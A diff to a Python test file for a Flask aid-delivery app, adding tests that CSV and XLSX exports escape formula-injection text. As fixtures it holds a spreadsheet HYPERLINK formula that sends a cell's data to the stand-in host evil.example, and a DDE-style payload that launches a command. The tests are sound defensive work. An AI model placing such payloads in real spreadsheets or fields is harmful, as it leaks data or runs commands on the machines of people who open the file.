@@ -460,10 +460,60 @@ def _awkward_delivery(app: Flask) -> str:
     return values["item"]
 
 
+#: A family name any field staff can type, or any node push: a live formula in a spreadsheet.
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+#: Text starting like a formula in other text columns of the exports.
+HOSTILE_TEXT = {"item": "@SUM(1+1)*cmd|' /C calc'!A0", "reason": "-2+3+cmd", "notes": "+1+1",
+                "delivered_by_name": "\t=1+2", "unit": "\r=3"}
+
+
+def _starts_like_formula(text: str) -> bool:
+    return text[:1] in ("=", "+", "-", "@", "\t", "\r")
+
+
+def _hostile_records(app: Flask) -> tuple[str, str]:
+    """A family named with a formula, with a negative coordinate; one of its deliveries and a
+    visit carry formula-like text. Returns the family's code and the delivery's code."""
+    from fieldapp.compliance.models import ComplianceVisit
+    from fieldapp.deliveries.models import Delivery
+    from fieldapp.families.models import Family
+
+    with app.app_context():
+        model = db.session.execute(
+            select(Delivery).where(Delivery.reverses_id.is_(None)).order_by(Delivery.code).limit(1)
+        ).scalar_one()
+        family = db.session.get(Family, model.family_id)
+        family.head_surname = HOSTILE_NAME
+        family.head_given_names = "\x01=Ana Luz"  # a control character XLSX cannot hold
+        family.phone = "+51 942 000 111"
+        family.lat, family.lon = -5.912345, -77.123456
+        other = db.session.execute(
+            select(Delivery).where(Delivery.reverses_id.is_(None),
+                                   Delivery.family_id != family.id).limit(1)
+        ).scalar_one()
+        # One delivery per hostile column, each alone in its line and for another family (the
+        # fast CSV path must see every one of them), and one with all of them.
+        columns = [c for c in HOSTILE_TEXT if c != "notes"]
+        db.session.execute(insert(Delivery), [
+            {c.name: getattr(other if n else model, c.name) for c in Delivery.__table__.columns}
+            | {"id": uuid.uuid4(), "code": f"AM-E-HOSTILE-{n}", "quantity": Decimal("3"),
+                      "delivered_on": date(2026, 5, 5),
+                      **{c: HOSTILE_TEXT[c] for c in (columns if n == 0 else columns[n - 1:n])}}
+            for n in range(len(columns) + 1)
+        ])
+        for visit in db.session.execute(select(ComplianceVisit).limit(3)).scalars():
+            visit.notes = HOSTILE_TEXT["notes"]
+        db.session.commit()
+        return family.code, "AM-E-HOSTILE-0"
+
+
 def _reference_text(value: Any, kind: str) -> str:
-    """A value read through SQLAlchemy's types, as the README says the CSV writes it."""
+    """A value read through SQLAlchemy's types, as the README says the CSV writes it (text
+    that starts like a formula with a ``'`` in front)."""
     if value is None:
         return ""
+    if kind == "text":
+        return "'" + str(value) if _starts_like_formula(str(value)) else str(value)
     if kind == "bool":
         return "true" if value else "false"
     if kind == "uuid":
@@ -505,6 +555,7 @@ def test_every_export_is_what_pythons_csv_module_writes(
 
     app = dash_app if backend == "sqlite" else request.getfixturevalue("pg_app")
     item = _awkward_delivery(app)
+    _hostile_records(app)
     staff = str(staff_member(app)[0])
     with app.test_request_context():
         first = db.session.execute(select(Community.id).order_by(Community.code)).scalar()
@@ -561,3 +612,83 @@ def test_read_ahead_gives_every_batch_and_stops_its_reader_with_the_download(tmp
         list(_read_ahead(engine, select(text("x")).select_from(text("missing"))))
     assert engine.pool.checkedout() == 0
     engine.dispose()
+
+
+def _check_export_cells(coordinator: FlaskClient, name: str, kinds: dict[str, str]) -> set[str]:
+    """Check the CSV and XLSX of one export (over all dates): no text starts like a formula,
+    XLSX text is string cells, numbers are numbers. Returns where the hostile name was seen."""
+    everything = {"from": "2000-01", "to": "2100-12"}
+    seen: set[str] = set()
+    rows = read_csv(coordinator.get(f"/dashboard/export/{name}.csv", query_string=everything))
+    for row in rows:
+        for column, value in row.items():
+            if kinds[column] == "text":
+                assert not _starts_like_formula(value), (name, column, value)
+            if value == "'" + HOSTILE_NAME:
+                seen.add(name)
+    book = load_workbook(io.BytesIO(coordinator.get(
+        f"/dashboard/export/{name}.xlsx", query_string=everything).data))
+    for sheet in book.worksheets:
+        header = [c.value for c in sheet[1]]
+        for cells in sheet.iter_rows(min_row=2):
+            for column, cell in zip(header, cells, strict=True):
+                if cell.value is None:
+                    continue
+                if kinds[column] == "text":
+                    assert cell.data_type == "s", (name, column, cell.value)
+                    assert not _starts_like_formula(cell.value), (name, column, cell.value)
+                if kinds[column] in ("int", "decimal"):
+                    assert isinstance(cell.value, int | float), (name, column, cell.value)
+                if cell.value == "'" + HOSTILE_NAME:
+                    seen.add(name + ".xlsx")
+    return seen
+
+
+def test_exports_never_carry_a_live_formula(
+    dash_app: Flask, coordinator: FlaskClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Text starting like a formula (OWASP's CSV injection) leaves with a ``'`` in front, in
+    every CSV and XLSX export; XLSX text cells are strings; numbers stay numbers."""
+    from fieldapp.dashboard.entities import ENTITIES
+    from fieldapp.dashboard.lists import LISTS
+
+    family_code, delivery_code = _hostile_records(dash_app)
+    seen_hostile: set[str] = set()
+    for name, dataset in {**ENTITIES, **LISTS}.items():
+        with dash_app.test_request_context():
+            kinds = {c.name: c.kind for c in dataset.columns()}
+        seen_hostile |= _check_export_cells(coordinator, name, kinds)
+    assert {"families", "families.xlsx", "deliveries", "deliveries.xlsx"} <= seen_hostile
+
+    families = read_csv(coordinator.get("/dashboard/export/families.csv", query_string=YEAR))
+    mine = next(r for r in families if r["family_code"] == family_code)
+    assert mine["head_surname"] == "'" + HOSTILE_NAME
+    assert mine["phone"] == "'+51 942 000 111"
+    assert (mine["lat"], mine["lon"]) == ("-5.912345", "-77.123456")  # numbers, as they are
+    deliveries = read_csv(coordinator.get("/dashboard/export/deliveries.csv", query_string=YEAR))
+    hostile = next(r for r in deliveries if r["delivery_code"] == delivery_code)
+    for column, text in HOSTILE_TEXT.items():
+        if column in hostile:
+            assert hostile[column] == "'" + text, column
+    assert hostile["head_surname"] == "'" + HOSTILE_NAME
+    assert hostile["quantity"] == "3"
+    assert any(r["signed_quantity"].startswith("-") for r in deliveries)  # a reversal's number
+    # A batch of one line: each hostile value alone in a batch the fast path would write.
+    monkeypatch.setattr("fieldapp.dashboard.streaming.BATCH", 1)
+    alone = read_csv(coordinator.get("/dashboard/export/deliveries.csv", query_string=YEAR))
+    assert alone == deliveries
+    singles = [r for r in alone if r["delivery_code"].startswith("AM-E-HOSTILE-")]
+    assert len(singles) == 5
+    for row in singles:
+        assert not any(_starts_like_formula(v) for v in row.values()), row
+
+    sheet = load_workbook(io.BytesIO(coordinator.get(
+        "/dashboard/export/families.xlsx", query_string=YEAR).data)).active
+    header = [c.value for c in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("family_code")].value
+               == family_code)
+    cell = row[header.index("head_surname")]
+    assert (cell.value, cell.data_type) == ("'" + HOSTILE_NAME, "s")
+    assert row[header.index("head_given_names")].value == "'=Ana Luz"
+    assert row[header.index("lat")].value == pytest.approx(-5.912345)
+    assert row[header.index("lat")].data_type == "n"
